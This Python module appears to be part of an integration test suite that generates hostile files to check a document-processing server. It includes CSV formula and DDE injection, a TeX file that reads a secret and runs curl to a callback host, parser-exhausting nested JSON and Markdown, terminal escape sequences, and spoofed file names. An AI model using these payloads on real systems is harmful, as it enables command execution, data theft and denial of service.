"""Hostile plain text, which is read in the server itself, and hostile names."""

from __future__ import annotations

from integration.library.attackers.corpus import WORDS, Target, attack
from integration.library.attackers.office import OFFICE
from integration.library.attackers.pdfs import page_pdf


@attack("formulas.csv", leads=True, reads=True)
def _(target: Target) -> bytes:
    return f'{WORDS}\n=WEBSERVICE("{target.web}/csv"),"=cmd|\'/C calc\'!A0"\n+HYPERLINK("{target.web}/h"),@SUM(1)\n'.encode()


@attack("deep.json")
def _(target: Target) -> bytes:
    return b"[" * 2_000_000 + b"]" * 2_000_000


@attack("deep.md", reads=True)
def _(target: Target) -> bytes:
    return (WORDS + "\n\n" + ">" * 100_000 + " x\n\n" + "[" * 100_000 + "\n" + "*a _b " * 50_000).encode()


@attack("heading.md", reads=True)
def _(target: Target) -> bytes:
    return ("# a" + " " * 7000 + f"b\n\n{WORDS}").encode()


@attack("comments.txt", reads=True)
def _(target: Target) -> bytes:
    return b"<!---->" * 500 + WORDS.encode()


@attack("tower.txt", reads=True)
def _(target: Target) -> bytes:
    return (WORDS + "\nZ" + "\u0301" * 150_000 + "\u0316" * 150_000).encode()


@attack("escapes.txt", reads=True)
def _(target: Target) -> bytes:
    return f"{WORDS} \x1b]0;titre\x07\x1b[2J\x9b31m\x08\x08".encode()


@attack("words.txt", reads=True)
def _(target: Target) -> bytes:
    return (WORDS + "\n" + "a" * 500_000 + "\n" + "a-" * 200_000 + "." * 200_000 + "M. " * 50_000).encode()


@attack("long-word.pdf", reads=True)
def _(target: Target) -> bytes:
    return page_pdf(text=WORDS + " " + "a" * 60_000)


@attack("include.tex", leads=True, reads=True)
def _(target: Target) -> bytes:
    return f"\\input{{{target.secret}}}\\write18{{curl {target.web}/tex}} {WORDS}".encode()


@attack("a\nb\x1b[2J\u202efdp.txt", reads=True)
def _(target: Target) -> bytes:
    return WORDS.encode()


@attack("c\nd\x1b[2J\u202ecod.docx", reads=True)
def _(target: Target) -> bytes:
    return OFFICE["docx"][0]
